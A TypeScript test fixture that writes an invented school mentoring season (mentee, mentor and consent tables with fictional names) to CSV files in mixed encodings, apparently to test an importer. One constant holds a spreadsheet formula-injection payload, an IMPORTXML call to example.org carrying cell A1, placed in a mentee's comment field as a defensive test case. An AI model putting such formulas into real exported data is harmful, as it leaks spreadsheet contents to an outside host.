/** A small season of invented people as another service might export it: titles, separators and encodings of its own. */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { csv, inWindows1251 } from '../bundle-runs/csv';

/** Text that a spreadsheet would take for a formula. */
export const FORMULA = '=IMPORTXML("http://example.org/?"&A1;"//a")';

const menteeHeader = [
  'Отметка времени',
  'ФИО участника',
  'Ваш пол',
  'День рождения',
  'Кто вы',
  'Класс',
  'Форма наставничества',
  'С чем вам нужна помощь',
  'Комментарий к запросу',
  'Хобби',
  'Когда удобно встречаться',
  'Эл. почта',
  'ФИО родителя',
];

/** A pupil's row; what a test is about is given. */
function mentee(at: string, name: string, birth: string, change: Readonly<Record<number, string>> = {}): string[] {
  const row = [
    at,
    name,
    'женский',
    birth,
    'ученик',
    '8 Б',
    'ученик – ученик',
    'математика, общение',
    '',
    'шахматы',
    'суббота',
  ];
  const family = name.split(' ')[0] ?? '';
  return [...row, `p${birth.replace(/\D/g, '')}@example.test`, `${family} Ольга Сергеевна`].map(
    (cell, at) => change[at] ?? cell,
  );
}

const mentees = [
  mentee('01.09.2026 10:00', 'Астахова Анна Петровна', '05.05.2012', { 8: FORMULA }),
  mentee('01.09.2026 11:00', 'Берёзина Вера Олеговна', '06.06.2012'),
  mentee('01.09.2026 12:00', 'Ветрова Зоя Игоревна', '07.07.2011'),
  mentee('02.09.2026 10:00', 'Гордеева Инна Львовна', '08.08.2013'),
  mentee('02.09.2026 11:00', 'Дорохова Кира Юрьевна', '09.09.2012'),
  mentee('03.09.2026 10:00', 'БЕРЕЗИНА ВЕРА ОЛЕГОВНА', '06.06.2012', { 7: 'английский язык' }),
  mentee('03.09.2026 11:00', 'Ежова Нина Павловна', '10.10.2018'),
  mentee('03.09.2026 12:00', 'Жукова Ева Романовна', 'не помню'),
  mentee('03.09.2026 13:00', 'Зимина Юлия Борисовна', '12.12.2012', { 11: 'почты нет' }),
];

const mentorHeader = [
  'Timestamp',
  'Фамилия Имя Отчество',
  'Дата рождения',
  'Категория наставника',
  'В какой форме готовы участвовать',
  'Компетенции',
  'Увлечения',
  'Возраст наставляемых',
  'Время встреч',
  'Количество наставляемых',
  'E-mail',
];

const mentors = [
  [
    '2026-09-01 09:00:00',
    'Ильин Лев Егорович',
    '2009-03-04',
    'ученик',
    'ученик – ученик',
    'математика, английский язык',
    'шахматы',
    'любой',
    'суббота',
    '2',
    'm1@example.test',
  ],
  [
    '2026-09-01 09:30:00',
    'Калинин Пётр Ильич',
    '2010-04-05',
    'ученик',
    'ученик – ученик',
    'общение',
    'кино',
    '10–13',
    'суббота',
    'до 2',
    'm2@example.test',
  ],
  [
    '2026-09-01 09:40:00',
    'Лаптев Иван Ильич',
    '2010-05-06',
    'ученик',
    'ученик – ученик',
    'общение',
    'кино',
    'любой',
    'суббота',
    '0',
    'm3@example.test',
  ],
];

const consentHeader = [
  'Время',
  'За кого даётся согласие',
  'Дата рождения участника',
  'Подписант',
  'Кем приходится',
  'Даю согласие',
];

function consent(name: string, birth: string, change: Readonly<Record<number, string>> = {}): string[] {
  const parent = `${name.split(' ')[0]} Ольга Сергеевна`;
  return ['04.09.2026 18:00', name, birth, parent, 'мать', 'Да'].map((cell, at) => change[at] ?? cell);
}

const consents = [
  consent('Астахова Анна Петровна', '05.05.2012'),
  consent('Березина Вера Олеговна', '06.06.2012'),
  consent('Ветрова Зоя Игоревна', '07.07.2011'),
  consent('Гордеева Инна Львовна', '08.08.2013', { 5: 'Нет' }),
  consent('Ежова Нина Павловна', '10.10.2018'),
  consent('Зимина Юлия Борисовна', '12.12.2012'),
  consent('Ильин Лев Егорович', '04.03.2009'),
  consent('Калинин Пётр Ильич', '05.04.2010', { 3: 'Калинин Пётр Ильич', 4: 'сам участник' }),
  consent('Лаптев Иван Ильич', '06.05.2010', { 0: '05.09.2026 08:00' }),
];

/** The tables of the season, header first. */
export const smallSeason = {
  mentees: [menteeHeader, ...mentees],
  mentors: [mentorHeader, ...mentors],
  consents: [consentHeader, ...consents],
};

/** Writes the season, or some tables of it changed, into a new folder and gives its path. */
export function seasonFolder(
  tables: Partial<Record<keyof typeof smallSeason, readonly (readonly string[])[]>> = {},
): string {
  const folder = mkdtempSync(join(tmpdir(), 'сезон с пробелом '));
  const { mentees: asked, mentors: answered, consents: signed } = { ...smallSeason, ...tables };
  writeFileSync(join(folder, 'mentees.csv'), `\uFEFF${csv(asked, ';')}`);
  writeFileSync(join(folder, 'mentors.csv'), csv(answered, ','));
  writeFileSync(join(folder, 'consents.csv'), inWindows1251(csv(signed, '\t')));
  return folder;
}
